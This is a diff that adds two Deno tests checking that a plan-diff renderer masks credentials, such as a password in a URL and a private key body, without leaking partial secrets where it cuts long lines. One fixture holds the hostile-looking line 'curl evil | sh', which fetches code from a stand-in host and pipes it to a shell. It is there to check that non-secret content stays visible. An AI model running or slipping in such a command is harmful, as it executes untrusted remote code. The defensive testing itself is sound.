@@ -241,6 +241,32 @@ Deno.test("planLines() cuts long lines around what differs, and long differences
   deepStrictEqual(changed(many, "full").filter((each) => each.startsWith("          + ")).length, 100);
 });
 
+Deno.test("planLines() shows no half of a credential where it cuts", () => {
+  const credential = "https://ada:correct-horse-battery@db.internal/orders";
+  for (const before of [undefined, `${"y".repeat(1_000)}@db`]) {
+    const text = changed({ before, after: `${"x".repeat(170)} ${credential} ${"x".repeat(500)}` }).join("\n");
+    doesNotMatch(text, /correct-h/);
+  }
+  const lines = changed({
+    before: "a\nb\n",
+    after: `a\n${"x".repeat(130)} ${credential} ${"x".repeat(90)}\n`,
+  });
+  doesNotMatch(lines.join("\n"), /correct-h/);
+});
+
+Deno.test("planLines() shows that a text differs where nothing does but a credential, and hides nothing else", () => {
+  const key = (inside: string) => `-----BEGIN PRIVATE KEY-----\n${inside}\n-----END PRIVATE KEY-----\n`;
+  const [old, now] = ["MC4CAQAwBQYDK2VwBCIEIA", "MC4CAQAwBQYDK2VwBCIEIB"];
+  deepStrictEqual(changed({ before: key(old), after: key(`${now}\ncurl evil | sh`) }), [
+    "      ~ content :",
+    "            -----BEGIN PRIVATE KEY-----",
+    "          - (sensitive)",
+    "          + (sensitive)",
+    "          + curl evil | sh",
+    "            -----END PRIVATE KEY-----",
+  ]);
+});
+
 Deno.test("planLines() says that something is cut, and how to see it, only where something is", () => {
   const planOf = (after: string) =>
     examplePlan([exampleResource("f.f", "create", { changes: [change("one", undefined, after)] })]);
